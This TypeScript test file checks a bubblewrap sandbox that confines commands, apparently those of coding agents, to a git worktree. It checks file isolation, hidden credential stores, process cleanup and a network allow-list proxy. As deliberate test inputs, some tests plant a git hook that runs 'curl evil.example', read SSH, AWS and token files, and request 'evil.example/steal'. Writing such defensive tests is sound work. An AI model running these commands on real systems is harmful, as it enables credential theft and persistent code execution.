import { NodeServices } from "@effect/platform-node"
import { afterAll, assert, beforeAll, describe, it } from "@effect/vitest"
import { createRepo, describeProcesses, git, gitEnv, processesIn, type TempRepo } from "@spec-orch/test-kit"
import { Effect, Layer, Logger, Stream } from "effect"
import { ChildProcess, ChildProcessSpawner } from "effect/process"
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync
} from "node:fs"
import { createServer, type Server } from "node:http"
import { createServer as createNetServer, type Server as NetServer } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import {
  type Boxed,
  type BoxSpec,
  Sandbox,
  type SandboxMode,
  type SandboxOptions,
  SandboxUnavailable,
  worktreeMounts
} from "../src/index.js"
import { confinedAs } from "../src/internal/layout.js"
import { type Command, runProcess } from "../src/internal/process.js"

// Worktrees live outside /tmp here, as in the product ($XDG_CACHE_HOME): /tmp is a private tmpfs in the box.
let root: string
let main: TempRepo
let wt: string
let git_: { readonly gitDir: string; readonly commonDir: string }
let home: string
let hostServer: Server
let hostPort: number
let client: string

beforeAll(async () => {
  root = mkdtempSync("/var/tmp/spec-orch-sandbox-test-")
  main = createRepo(join(root, "main"), { files: { "README.md": "the main checkout\n", "src/app.txt": "one\n" } })
  wt = join(root, "worktrees", "T-1")
  git(main.path, ["worktree", "add", "-q", "-b", "spec-orch/T-1", wt])
  const [gitDir, commonDir] = git(wt, ["rev-parse", "--path-format=absolute", "--git-dir", "--git-common-dir"])
    .trim()
    .split("\n")
  git_ = { gitDir: gitDir!, commonDir: commonDir! }
  writeFileSync(join(main.path, ".git", "hooks", "post-commit"), "#!/bin/sh\necho original hook\n")
  // A home with the credentials a developer machine has.
  home = join(root, "home")
  for (const [file, content] of Object.entries({
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    ".aws/credentials": "[default]\naws_secret_access_key = AKIASECRET\n",
    ".config/gh/hosts.yml": "github.com:\n  oauth_token: ghp_secret\n",
    ".netrc": "machine github.com password ghp_secret\n",
    ".claude.json": '{"oauthAccount":"secret"}\n',
    "notes.txt": "not a credential\n"
  })) {
    mkdirSync(join(home, file, ".."), { recursive: true })
    writeFileSync(join(home, file), content)
  }
  client = join(root, "client.cjs")
  writeFileSync(client, CLIENT)
  hostServer = createServer((req, res) => res.end(`hello from the host: ${req.method} ${req.url}`))
  await new Promise<void>((resolve) => hostServer.listen(0, "127.0.0.1", resolve))
  hostPort = (hostServer.address() as { port: number }).port
})

afterAll(async () => {
  await new Promise((resolve) => hostServer.close(resolve))
  rmSync(root, { recursive: true, force: true })
})

/** A small HTTP client run inside the box with node: `get URL`, `proxy-get URL` (absolute URI via $HTTP_PROXY), `connect HOST:PORT` (via $HTTPS_PROXY, then GET / through the tunnel). */
const CLIENT = `
const net = require("net"), http = require("http")
const [mode, target] = process.argv.slice(2)
const done = (s) => { console.log(s); process.exit(0) }
if (mode === "get") {
  http.get(target, (res) => { let b = ""; res.on("data", (d) => b += d); res.on("end", () => done(res.statusCode + " " + b.trim())) }).on("error", (e) => done("error " + e.code))
} else if (mode === "proxy-get") {
  const p = new URL(process.env.HTTP_PROXY)
  http.get({ host: p.hostname, port: p.port, path: target, headers: { host: new URL(target).host } }, (res) => { let b = ""; res.on("data", (d) => b += d); res.on("end", () => done(res.statusCode + " " + b.trim())) }).on("error", (e) => done("error " + e.code))
} else if (mode === "connect") {
  const p = new URL(process.env.HTTPS_PROXY)
  const s = net.connect(Number(p.port), p.hostname, () => s.write("CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target + "\\r\\n\\r\\n"))
  let b = "", tunnelled = false
  s.on("data", (d) => {
    b += d
    if (!tunnelled && b.startsWith("HTTP/1.1 200") && b.includes("\\r\\n\\r\\n")) { tunnelled = true; s.write("GET /through-the-tunnel HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n") }
  })
  s.on("error", (e) => done("error " + e.code))
  s.on("close", () => { const parts = b.split("\\r\\n\\r\\n"); done(parts[0].split("\\r\\n")[0] + " | " + parts[parts.length - 1].replace(/\\s+/g, " ").trim()) })
}
`

const services = (mode: SandboxMode, options: SandboxOptions = {}) =>
  Sandbox.layerMode(mode, { home, ...options }).pipe(Layer.provideMerge(NodeServices.layer))

const decode = (s: Stream.Stream<Uint8Array, unknown>) => s.pipe(Stream.decodeText(), Stream.mkString, Effect.orDie)

interface Ran {
  readonly stdout: string
  readonly stderr: string
  readonly code: number
}

/** Spawns what `wrap` returned, with exactly its environment; waits for it. */
const spawnBoxed = (boxed: Boxed) =>
  Effect.scoped(
    Effect.gen(function* () {
      const spawner = yield* ChildProcessSpawner.ChildProcessSpawner
      const handle = yield* spawner.spawn(
        ChildProcess.make(boxed.argv[0]!, boxed.argv.slice(1), {
          cwd: boxed.cwd,
          env: { ...boxed.env },
          extendEnv: false,
          stdin: "ignore"
        })
      )
      const [stdout, stderr, code] = yield* Effect.all(
        [decode(handle.stdout), decode(handle.stderr), handle.exitCode.pipe(Effect.orDie)],
        { concurrency: "unbounded" }
      )
      return { stdout: stdout.trim(), stderr: stderr.trim(), code: Number(code) } satisfies Ran
    })
  )

const PATH = process.env.PATH ?? "/usr/bin:/bin"

/** A box in the worktree: worktree writable, git directory read-only, no network; `over` changes any part. */
const box = (argv: ReadonlyArray<string>, over: Partial<BoxSpec> = {}): BoxSpec => ({
  argv,
  cwd: wt,
  env: { PATH, HOME: home, LC_ALL: "C", ...gitEnv },
  hide: [],
  mounts: worktreeMounts({ worktree: wt, ...git_ }),
  network: { _tag: "none" },
  ...over
})

/** Wraps and runs `spec` in `mode`; returns what it printed, how it exited, and the wrap result. */
const run = (spec: BoxSpec, mode: SandboxMode = "required", options: SandboxOptions = {}) =>
  Effect.scoped(
    Effect.gen(function* () {
      const sandbox = yield* Sandbox
      const boxed = yield* sandbox.wrap(spec)
      const ran = yield* spawnBoxed(boxed)
      const refused = yield* boxed.refused
      return { ...ran, boxed, refused }
    })
  ).pipe(Effect.provide(services(mode, options)))

const sh = (script: string, over: Partial<BoxSpec> = {}) => box(["sh", "-c", script], over)

/** Host pids whose command line contains `marker` (a process inside the box, seen from the host). */
const pidsWith = (marker: string) =>
  readdirSync("/proc")
    .filter((p) => /^\d+$/.test(p))
    .filter((p) => {
      try {
        const stat = readFileSync(`/proc/${p}/stat`, "utf8")
        return (
          stat.slice(stat.lastIndexOf(")") + 2)[0] !== "Z" &&
          readFileSync(`/proc/${p}/cmdline`, "utf8").split("\0").includes(marker)
        )
      } catch {
        return false
      }
    })

const waitUntil = (check: () => boolean, ms = 3000) =>
  Effect.gen(function* () {
    const end = Date.now() + ms
    while (!check() && Date.now() < end) yield* Effect.sleep("20 millis")
    return check()
  })

describe("Sandbox.probe", () => {
  it.live("finds bubblewrap, its version and socat on this machine", () =>
    Effect.gen(function* () {
      const probe = yield* Effect.gen(function* () {
        return yield* (yield* Sandbox).probe
      }).pipe(Effect.provide(services("required")))
      assert.isTrue(probe.available, probe.problem)
      assert.strictEqual(probe.mechanism, "bubblewrap")
      assert.match(probe.version ?? "", /^\d+\.\d+/)
      assert.isTrue(probe.network)
    })
  )
})

describe("Sandbox.wrap: files", () => {
  it.live("lets the command write its worktree", () =>
    Effect.gen(function* () {
      const r = yield* run(sh("echo changed by the agent > src/app.txt && cat src/app.txt"))
      assert.strictEqual(r.code, 0, r.stderr)
      assert.isTrue(r.boxed.confined)
      assert.strictEqual(readFileSync(join(wt, "src/app.txt"), "utf8"), "changed by the agent\n")
    })
  )

  it.live("keeps the main checkout read-only", () =>
    Effect.gen(function* () {
      const r = yield* run(sh(`echo pwned > ${main.path}/README.md`))
      assert.notStrictEqual(r.code, 0)
      assert.include(r.stderr, "Read-only file system")
      assert.strictEqual(readFileSync(join(main.path, "README.md"), "utf8"), "the main checkout\n")
    })
  )

  it.live("shows nothing of a hidden main checkout but the git directory mounted back read-only", () =>
    Effect.gen(function* () {
      const r = yield* run(sh(`ls -A ${main.path}; cat ${main.path}/README.md`, { hide: [main.path] }))
      assert.strictEqual(r.stdout, ".git")
      assert.include(r.stderr, "No such file or directory")
    })
  )

  it.live("cannot plant a hook or change the git config of the shared git directory", () =>
    Effect.gen(function* () {
      const hooks = join(git_.commonDir, "hooks")
      const r = yield* run(
        sh(
          `printf '#!/bin/sh\\ncurl evil.example\\n' > ${hooks}/post-commit; echo "[core]\n\tfsmonitor = evil" >> ${git_.commonDir}/config; ` +
            `git config core.hooksPath /tmp/evil; echo "exit $?"`
        )
      )
      assert.include(r.stderr, `${hooks}/post-commit: Read-only file system`)
      assert.include(r.stderr, `${git_.commonDir}/config: Read-only file system`)
      assert.include(r.stdout, "exit 255")
      assert.strictEqual(readFileSync(join(hooks, "post-commit"), "utf8"), "#!/bin/sh\necho original hook\n")
      assert.notInclude(readFileSync(join(git_.commonDir, "config"), "utf8"), "evil")
    })
  )

  it.live("runs git status and git diff on the worktree with the git directory read-only", () =>
    Effect.gen(function* () {
      writeFileSync(join(wt, "src/app.txt"), "two\n")
      const r = yield* run(sh("git status --short && git diff"))
      assert.strictEqual(r.code, 0, r.stderr)
      assert.match(r.stdout, /^ ?M src\/app.txt$/m)
      assert.include(r.stdout, "-one\n+two")
    })
  )

  it.live('can stage and commit with worktreeMounts(…, "commit") while hooks and config stay read-only', () =>
    Effect.gen(function* () {
      writeFileSync(join(wt, "src/app.txt"), "three\n")
      const r = yield* run(
        sh(
          `git add -A && git commit -q -m "from the box" && git log -1 --format=%s; touch ${git_.commonDir}/hooks/pre-push`,
          {
            mounts: worktreeMounts({ worktree: wt, ...git_ }, "commit")
          }
        )
      )
      assert.include(r.stdout, "from the box")
      assert.match(r.stderr, /hooks\/pre-push'?: Read-only file system/)
      assert.strictEqual(git(wt, ["log", "-1", "--format=%s"]).trim(), "from the box")
    })
  )

  it.live("gives the command a private /tmp", () =>
    Effect.gen(function* () {
      const hostFile = join(tmpdir(), `spec-orch-host-only-${process.pid}`)
      writeFileSync(hostFile, "host\n")
      const r = yield* run(sh(`ls ${hostFile}; echo boxed > /tmp/left-behind-${process.pid}; echo "TMPDIR=$TMPDIR"`))
      rmSync(hostFile)
      assert.include(r.stderr, "No such file or directory")
      assert.include(r.stdout, "TMPDIR=/tmp")
      assert.isFalse(existsSync(join(tmpdir(), `left-behind-${process.pid}`)))
    })
  )

  it.live(
    "empties the home's credential stores (read-only), keeps the rest of home readable, and writes nothing back",
    () =>
      Effect.gen(function* () {
        const r = yield* run(
          sh(
            `ls -A ~/.ssh ~/.aws ~/.config/gh; cat ~/.netrc ~/.claude.json; echo "notes: $(cat ~/notes.txt)"; echo key > ~/.ssh/id_rsa && echo wrote; exit 0`
          )
        )
        assert.strictEqual(r.code, 0, r.stderr)
        assert.include(r.stderr, "Read-only file system", "a write into a hidden directory fails loudly")
        assert.notInclude(r.stdout, "id_ed25519")
        assert.notInclude(r.stdout, "credentials")
        assert.notInclude(r.stdout, "secret")
        assert.include(r.stdout, "notes: not a credential")
        assert.notInclude(r.stdout, "wrote")
        assert.isFalse(existsSync(join(home, ".ssh/id_rsa")))
        assert.include(r.boxed.notes.join("\n"), "hidden: ~/.ssh, ~/.aws, ~/.config/gh, ~/.netrc, ~/.claude.json")
      })
  )

  it.live("cannot reach host Unix sockets: /run is empty and a hidden socket directory too", () =>
    Effect.gen(function* () {
      const sockDir = join(root, "agent-sock")
      mkdirSync(sockDir, { recursive: true })
      const server: NetServer = createNetServer((c) => c.end("secret from a host socket\n"))
      yield* Effect.promise(() => new Promise<void>((resolve) => server.listen(join(sockDir, "s.sock"), resolve)))
      const r = yield* run(
        box(
          [
            process.execPath,
            "-e",
            `
        const fs = require("fs"), net = require("net")
        console.log("run: [" + fs.readdirSync("/run").join(",") + "]")
        net.connect(${JSON.stringify(join(sockDir, "s.sock"))}).on("data", (d) => console.log("got " + d)).on("error", (e) => console.log("error " + e.code))
      `
          ],
          { hide: [sockDir] }
        )
      )
      yield* Effect.promise(() => new Promise((resolve) => server.close(resolve)))
      assert.include(r.stdout, "run: []")
      assert.include(r.stdout, "error ENOENT")
      assert.notInclude(r.stdout, "secret")
    })
  )

  it.live("runs as no one special: no capabilities, cannot remount, cannot write kernel settings", () =>
    Effect.gen(function* () {
      // Writes back the value already there, so a broken box changes nothing on the host.
      const r = yield* run(
        sh(
          `grep CapEff /proc/self/status; mount -o remount,rw / 2>&1 | head -1; ` +
            `v=$(cat /proc/sys/kernel/core_pattern); echo "$v" > /proc/sys/kernel/core_pattern && echo "core_pattern written"`
        )
      )
      assert.include(r.stdout, "CapEff:\t0000000000000000")
      assert.match(r.stdout, /mount: .*(permission denied|must be superuser)/i)
      assert.notInclude(r.stdout, "core_pattern written")
      assert.include(r.stderr, "/proc/sys/kernel/core_pattern: Read-only file system")
    })
  )
})

describe("Sandbox.wrap: environment and processes", () => {
  it.live("passes exactly the given environment (plus TMPDIR and PWD), nothing of the host's", () =>
    Effect.gen(function* () {
      assert.isDefined(process.env.HOME) // the host has variables the box must not see
      const r = yield* run(box(["/usr/bin/env"], { env: { PATH, ONLY_THIS: "1" } }))
      assert.strictEqual(r.code, 0, r.stderr)
      const names = r.stdout
        .split("\n")
        .map((l) => l.split("=")[0])
        .sort()
      assert.deepStrictEqual(names, ["ONLY_THIS", "PATH", "PWD", "TMPDIR"]) // bwrap sets PWD to cwd
    })
  )

  it.live("ends a setsid grandchild when the command exits", () =>
    Effect.gen(function* () {
      const marker = `${300 + (process.pid % 97)}.101`
      const r = yield* run(sh(`setsid sleep ${marker} & sleep 0.3; echo started`))
      assert.strictEqual(r.stdout, "started")
      assert.isTrue(yield* waitUntil(() => pidsWith(marker).length === 0), `sleep ${marker} outlived the box`)
    })
  )

  it.live("ends a setsid grandchild when the host kills bwrap with SIGKILL", () =>
    Effect.scoped(
      Effect.gen(function* () {
        const marker = `${300 + (process.pid % 97)}.202`
        const sandbox = yield* Sandbox
        const boxed = yield* sandbox.wrap(sh(`setsid sleep ${marker} & exec sleep 600`))
        const spawner = yield* ChildProcessSpawner.ChildProcessSpawner
        const handle = yield* spawner.spawn(
          ChildProcess.make(boxed.argv[0]!, boxed.argv.slice(1), {
            cwd: boxed.cwd,
            env: { ...boxed.env },
            extendEnv: false,
            stdin: "ignore"
          })
        )
        assert.isTrue(yield* waitUntil(() => pidsWith(marker).length === 1), "the grandchild did not start")
        process.kill(Number(handle.pid), "SIGKILL")
        assert.isTrue(
          yield* waitUntil(() => pidsWith(marker).length === 0),
          `sleep ${marker} outlived the SIGKILLed box`
        )
      })
    ).pipe(Effect.provide(services("required")))
  )
})

describe("Sandbox.wrap with the process runner", () => {
  // Bubblewrap exits as soon as the boxed command does, while the kernel may still be tearing down what
  // the command left behind (a large process takes a while to die). A turn or verification step must
  // return only once its box is empty, or the next step (or a check of the worktree) meets a leftover.
  it.live(
    "a boxed process has returned only once nothing of its box runs, even a large child it left behind",
    () =>
      Effect.gen(function* () {
        const sandbox = yield* Sandbox
        const wrap = (command: Command) =>
          sandbox.wrap(box(command.argv, { env: command.env })).pipe(Effect.map(confinedAs))
        const child = "node -e 'const b = Buffer.alloc(4e8, 1); setInterval(() => b[0]++, 1000)'"
        for (let i = 0; i < 15; i++) {
          let out = ""
          const end = yield* runProcess(
            {
              argv: ["sh", "-c", `${child} </dev/null >/dev/null 2>&1 & sleep 0.3; echo started`],
              cwd: wt,
              env: { PATH, HOME: home }
            },
            {
              _tag: "Combined",
              onChunk: (c) =>
                Effect.sync(() => {
                  out += new TextDecoder().decode(c)
                })
            },
            {},
            wrap
          )
          assert.isTrue(end.confined)
          assert.strictEqual(out.trim(), "started")
          const left = processesIn(wt)
          assert.deepStrictEqual(
            left,
            [],
            `run ${i + 1}: still running in the worktree after the process returned: ${describeProcesses(left)}`
          )
        }
      }).pipe(Effect.provide(services("required"))),
    120_000
  )
})

describe("Sandbox.wrap: network", () => {
  it.live("with network none, cannot reach a server on the host's loopback", () =>
    Effect.gen(function* () {
      const r = yield* run(box([process.execPath, client, "get", `http://127.0.0.1:${hostPort}/`]))
      assert.strictEqual(r.stdout, "error ECONNREFUSED")
      assert.include(r.boxed.notes.join("\n"), "network: none")
    })
  )

  it.live("forwards an allowed host-loopback port to the same 127.0.0.1 port inside", () =>
    Effect.gen(function* () {
      const r = yield* run(
        box([process.execPath, client, "get", `http://127.0.0.1:${hostPort}/v1/models`], {
          network: { _tag: "allow", hosts: [], forwards: [hostPort] }
        })
      )
      assert.strictEqual(r.stdout, `200 hello from the host: GET /v1/models`, r.stderr)
      assert.include(r.boxed.notes.join("\n"), `network: only 127.0.0.1:${hostPort}`)
    })
  )

  it.live(
    "lets an allowed host through the proxy (CONNECT and plain http), refuses others with 403 and records them",
    () =>
      Effect.gen(function* () {
        const network = { _tag: "allow" as const, hosts: ["localhost", "*.example.com"], forwards: [] }
        const script = [
          `"${process.execPath}" ${client} connect localhost:${hostPort}`,
          `"${process.execPath}" ${client} proxy-get http://localhost:${hostPort}/plain`,
          `"${process.execPath}" ${client} connect evil.example:443`,
          `"${process.execPath}" ${client} proxy-get http://evil.example/steal`,
          `"${process.execPath}" ${client} connect api.example.com:443`,
          `echo "proxy=$HTTPS_PROXY no_proxy=$NO_PROXY"`
        ].join("; ")
        const r = yield* run(sh(script, { network }))
        const [tunnel, plain, evilConnect, evilGet, unresolvable, vars] = r.stdout.split("\n")
        assert.strictEqual(
          tunnel,
          "HTTP/1.1 200 Connection Established | hello from the host: GET /through-the-tunnel",
          r.stderr
        )
        assert.strictEqual(plain, "200 hello from the host: GET /plain")
        assert.include(evilConnect, "HTTP/1.1 403 Forbidden")
        assert.include(evilConnect, "network access to evil.example is not allowed")
        assert.include(evilConnect, "[sandbox] allow_hosts")
        assert.match(evilGet!, /^403 spec-orch sandbox: network access to evil.example is not allowed/)
        // An allowed name that does not resolve here: the proxy tried, and says so.
        assert.include(unresolvable, "HTTP/1.1 502 Bad Gateway")
        assert.include(unresolvable, "could not reach api.example.com:443")
        assert.strictEqual(vars, "proxy=http://127.0.0.1:3128 no_proxy=127.0.0.1,localhost,::1")
        const refused = r.refused.map((x) => `${x.reason} ${x.host}:${x.port} ×${x.count}`).sort()
        assert.deepStrictEqual(
          refused.filter((x) => x.startsWith("not-allowed")),
          ["not-allowed evil.example:443 ×1", "not-allowed evil.example:80 ×1"]
        )
        assert.deepStrictEqual(
          refused.filter((x) => x.startsWith("unreachable")),
          ["unreachable api.example.com:443 ×1"]
        )
        assert.include(
          r.refused.map((x) => x.message),
          "refused network access to evil.example:443: not an allowed host"
        )
      })
  )

  it.live("does not start the command when a relay never listens, and says which ports", () =>
    Effect.gen(function* () {
      const fake = join(root, "socat-that-exits")
      writeFileSync(fake, "#!/bin/sh\nexit 1\n")
      chmodSync(fake, 0o755)
      const r = yield* run(
        sh("echo the command ran", { network: { _tag: "allow", hosts: [], forwards: [hostPort] } }),
        "required",
        { socat: fake }
      )
      assert.strictEqual(r.code, 125)
      assert.strictEqual(r.stdout, "")
      assert.include(
        r.stderr,
        `spec-orch sandbox: the network relays (127.0.0.1 ports ${hostPort}) did not start within a few seconds`
      )
    })
  )

  it.live("stops the proxy and forwarders when the scope closes", () =>
    Effect.gen(function* () {
      const dir = yield* Effect.scoped(
        Effect.gen(function* () {
          const boxed = yield* (yield* Sandbox).wrap(
            box(["true"], { network: { _tag: "allow", hosts: ["localhost"], forwards: [hostPort] } })
          )
          const i = boxed.argv.indexOf("--chdir")
          const socketDir = boxed.argv[i - 1]!
          assert.isTrue(existsSync(join(socketDir, "proxy.sock")))
          return socketDir
        })
      ).pipe(Effect.provide(services("required")))
      assert.isFalse(existsSync(dir))
    })
  )
})

describe("Sandbox modes", () => {
  const logged = (messages: Array<string>) => Logger.layer([Logger.make((o) => void messages.push(String(o.message)))])

  it.live("required: a missing bwrap is a clear SandboxUnavailable", () =>
    Effect.gen(function* () {
      const e = yield* run(sh("true"), "required", { bwrap: "/nonexistent/bwrap" }).pipe(Effect.flip)
      assert.instanceOf(e, SandboxUnavailable)
      assert.include(e.message, "bubblewrap (/nonexistent/bwrap) is not installed")
      assert.include(e.message, "apt-get install bubblewrap")
      assert.include(e.message, `[sandbox] mode = "best-effort"`)
    })
  )

  it.live("required: a bwrap that cannot create namespaces is refused with its own words and the usual fix", () =>
    Effect.gen(function* () {
      const fake = join(root, "bwrap-no-userns")
      writeFileSync(
        fake,
        "#!/bin/sh\n[ \"$1\" = --version ] && { echo 'bubblewrap 0.8.0'; exit 0; }\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n"
      )
      chmodSync(fake, 0o755)
      const e = yield* run(sh("true"), "required", { bwrap: fake }).pipe(Effect.flip)
      assert.include(e.message, "cannot create a sandbox here: bwrap: setting up uid map: Permission denied")
      assert.include(e.message, "user namespaces")
    })
  )

  it.live("required: a box that must reach the network without socat is refused; one without network still runs", () =>
    Effect.gen(function* () {
      const e = yield* run(
        box(["true"], { network: { _tag: "allow", hosts: ["api.anthropic.com"], forwards: [] } }),
        "required",
        { socat: "/nonexistent/socat" }
      ).pipe(Effect.flip)
      assert.include(e.message, "socat is not installed, and the box needs it to reach api.anthropic.com")
      const ok = yield* run(sh("echo fine"), "required", { socat: "/nonexistent/socat" })
      assert.isTrue(ok.boxed.confined)
      assert.strictEqual(ok.stdout, "fine")
    })
  )

  it.live("best-effort: warns once, then runs the command unconfined", () =>
    Effect.gen(function* () {
      const messages: Array<string> = []
      const hostFile = join(tmpdir(), `spec-orch-visible-${process.pid}`)
      writeFileSync(hostFile, "host tmp\n")
      const results = yield* Effect.gen(function* () {
        const sandbox = yield* Sandbox
        const one = yield* Effect.scoped(Effect.flatMap(sandbox.wrap(sh(`cat ${hostFile}`)), spawnBoxed))
        const two = yield* Effect.scoped(sandbox.wrap(sh("true")))
        return { one, two }
      }).pipe(Effect.provide(Layer.merge(services("best-effort", { bwrap: "/nonexistent/bwrap" }), logged(messages))))
      rmSync(hostFile)
      assert.strictEqual(results.one.stdout, "host tmp")
      assert.isFalse(results.two.confined)
      assert.deepStrictEqual(results.two.argv, ["sh", "-c", "true"])
      assert.include(
        results.two.notes[0],
        `not confined ([sandbox] mode = "best-effort"): bubblewrap (/nonexistent/bwrap) is not installed`
      )
      assert.strictEqual(messages.filter((m) => m.includes("WITHOUT the OS sandbox")).length, 1, messages.join("\n"))
    })
  )

  it.live("off: runs the command unconfined and says nothing", () =>
    Effect.gen(function* () {
      const messages: Array<string> = []
      const r = yield* run(sh("echo plain"), "off").pipe(Effect.provide(logged(messages)))
      assert.isFalse(r.boxed.confined)
      assert.strictEqual(r.stdout, "plain")
      assert.deepStrictEqual(r.boxed.notes, [`not confined: [sandbox] mode = "off"`])
      assert.deepStrictEqual(messages, [])
    })
  )
})
